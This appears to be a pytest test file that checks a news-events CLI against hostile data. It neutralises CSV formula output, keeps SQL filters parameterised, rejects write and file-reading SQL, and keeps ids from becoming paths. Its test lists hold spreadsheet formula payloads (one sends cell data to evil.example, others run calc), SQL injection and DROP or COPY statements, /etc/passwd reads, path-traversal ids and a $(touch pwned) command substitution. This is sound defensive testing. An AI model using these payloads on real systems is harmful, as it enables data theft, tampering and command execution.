"""Hardening, hostile data: spreadsheet formulas in CSV output, SQL in filters and options,
user SQL that tries to write, and ids or file names that look like paths."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from events import errors, pipeline, query
from events.article import Article
from events.cli import main
from events.store import Store

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PATH_IDS = ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\system32", "C:\\evil.txt", "~/.bashrc",
            "$(touch pwned)", "a/b/../../../c", "events/year=2023/part-000001-aaaaaaaaaaaa.parquet"]


def _run(db: Path, *args: str, input: str | None = None):
    return CliRunner().invoke(main, ["--db", str(db), *args], input=input, catch_exceptions=False)


def _tree(root: Path) -> dict[str, str]:
    """Every file under root with its content hash."""
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def db(tmp_path, event_row) -> Path:
    """A store holding hostile articles (real ingest) and hostile event rows (commit)."""
    path = tmp_path / "db"
    src = tmp_path / "hostile.jsonl"
    records = [{"id": pid, "text": f"{f} Serangan di Bagdad {n}.", "title": f, "source": f, "url": f}
               for n, (pid, f) in enumerate(zip(PATH_IDS, FORMULAS + FORMULAS))]
    src.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    assert _run(path, "ingest", str(src)).exit_code == 0
    rows = [event_row(event_id_cnty=f"IRQ{n:010d}", notes=f, actor1=f, location=f, admin1="Baghdad",
                      article_ids=[f], tags=f, source=f) for n, f in enumerate(FORMULAS, 1)]
    rows.append(event_row(event_id_cnty="IRQ0000000099", admin1="x' OR '1'='1", notes="plain"))
    Store(path).commit([pipeline.Result(Article(text="formula rows", id="formulas"), rows, [])])
    return path


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_hardening_hostile_export_csv_neutralises_formulas(db, tmp_path):
    out = tmp_path / "out.csv"
    result = _run(db, "export", "--output", str(out))
    assert result.exit_code == 0, result.stderr
    records = _csv(out.read_text(encoding="utf-8"))
    hostile = [r for r in records if r["notes"] in {"'" + f for f in FORMULAS} | {"'" + f.replace("\r", "\n") for f in FORMULAS}]
    assert len(hostile) == len(FORMULAS)
    for r in records:
        for name in ("notes", "actor1", "location", "tags", "source", "article_ids", "admin1"):
            assert not r[name].startswith(query.FORMULA_START), (name, r[name])


def test_hardening_hostile_query_csv_neutralises_formulas(db):
    result = _run(db, "query", "SELECT id, title, source, url, text FROM articles WHERE id <> 'formulas' ORDER BY id", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    records = _csv(result.stdout)
    assert len(records) == len(PATH_IDS)
    for r in records:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["title"] for r in records} >= {"'" + f.strip() for f in FORMULAS[:5]}


def _export_all(db, tmp_path) -> str:
    out = tmp_path / "all.csv"
    assert _run(db, "export", "--output", str(out)).exit_code == 0
    return out.read_text(encoding="utf-8")


@pytest.mark.parametrize("args, code, message", [
    (["--country", "Iraq' OR '1'='1"], 2, "unknown country \"Iraq' OR '1'='1\""),
    (["--country", "Iraq'); DROP VIEW events; --"], 2, "unknown country"),
    (["--region", "Middle East' OR 1=1 --"], 2, "unknown --region"),
    (["--event-type", "Battles') OR true --"], 2, "unknown --event-type"),
    (["--admin1", "x' OR '1'='1"], 0, None),             # free text: matched as a value, literally
    (["--admin1", "%"], 0, None),
    (["--admin1", "Baghdad' --"], 0, None),             # punctuation aside, the name Baghdad: its rows only
])
def test_hardening_hostile_filters_are_parameters(db, tmp_path, args, code, message):
    before = _tree(db)
    out = tmp_path / "f.csv"
    result = _run(db, "export", "--output", str(out), *args)
    assert result.exit_code == code, result.output
    if message:
        assert result.stderr.startswith("Error: ") and message in result.stderr
        assert len(result.stderr.splitlines()) == 1 and not out.exists()
    else:
        rows = _csv(out.read_text(encoding="utf-8"))
        admin = args[1]
        expected = {"x' OR '1'='1": [admin], "Baghdad' --": ["Baghdad"] * len(rows)}.get(admin, [])
        assert [r["admin1"] for r in rows] == expected and len(rows) < len(_csv(_export_all(db, tmp_path)))
    summary = _run(db, "summary", "--by", "admin1", "--format", "csv", *args)
    assert summary.exit_code == (2 if message else 0)
    assert _tree(db) == before


@pytest.mark.parametrize("by", ["region; DROP VIEW events", "admin1) FROM events; --", "1", "count(*)"])
def test_hardening_hostile_summary_dimensions_are_names_not_sql(db, by):
    result = _run(db, "summary", "--by", by)
    assert result.exit_code == 2 and result.stderr.startswith("Error: unknown --by")
    with pytest.raises(errors.FilterError, match="cannot summarise by"):
        query.summary(db, [by])


ATTACKS = [
    "DROP VIEW events", "DELETE FROM events", "UPDATE events SET notes = 'x'", "INSERT INTO events SELECT * FROM events",
    "CREATE TABLE t AS SELECT * FROM events", "COPY events TO '{out}/copy.csv'",
    "COPY (SELECT 1 AS a) TO '{live}' (FORMAT parquet)", "EXPORT DATABASE '{out}/dump'",
    "ATTACH '{out}/x.duckdb' AS x", "INSTALL httpfs", "LOAD httpfs", "SET enable_external_access = true",
    "PRAGMA enable_profiling", "CALL pragma_version()", "SELECT 1; DROP VIEW events", "/* hidden */ DROP VIEW events",
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_parquet('{out}/other.parquet')", "SELECT * FROM glob('/etc/*')",
    "VACUUM", "CHECKPOINT", "DETACH memory", "USE system", "SET allowed_paths = ['/']",
]


def test_hardening_hostile_query_cannot_damage_stored_data(db, tmp_path):
    out = tmp_path / "attacker"
    out.mkdir()
    live = Store(db).live_files("events")[0]
    before, outside = _tree(db), _tree(out)
    count = _run(db, "query", "SELECT count(*) AS n FROM events", "--format", "csv").stdout
    for sql in ATTACKS:
        statement = sql.format(out=out, live=live)
        for result in (_run(db, "query", statement), _run(db, "query", "-", input=statement)):
            assert result.exit_code == 2, (statement, result.output)
            assert result.stderr.startswith("Error: ") and len(result.stderr.splitlines()) == 1, result.stderr
    assert _tree(db) == before and _tree(out) == outside
    assert _run(db, "query", "SELECT count(*) AS n FROM events", "--format", "csv").stdout == count


def test_hardening_hostile_ids_never_become_paths(db, tmp_path):
    stored = _run(db, "query", "SELECT id FROM articles WHERE id <> 'formulas'", "--format", "jsonl")
    assert {json.loads(line)["id"] for line in stored.stdout.splitlines()} == set(PATH_IDS)
    names = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")}
    assert not any("passwd" in n or "evil" in n or "pwned" in n or "bashrc" in n for n in names)
    assert {p.name for p in db.iterdir()} <= {"manifest.json", "events.duckdb", "journal.jsonl", ".lock", "articles", "events",
                                               "event_sources"}
    listed = {p for ps in Store(db).manifest().files.values() for p in ps}
    assert all(p.split("/")[0] in ("articles", "events", "event_sources") and ".." not in p for p in listed)


def test_hardening_hostile_file_names_stay_one_line(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "evil\nrejected fake.txt: forged line").write_bytes(b"")
    (src / "ok\r.txt").write_text("Bom meledak di pasar Poso pada Senin.")
    result = _run(tmp_path / "db", "ingest", str(src))
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if line.startswith("rejected")]
    assert len(lines) == 1 and lines[0].endswith(": empty file")
    assert "\\n" in lines[0]                                # the newline is shown escaped
    assert result.stdout.startswith("2 articles read: 1 new")
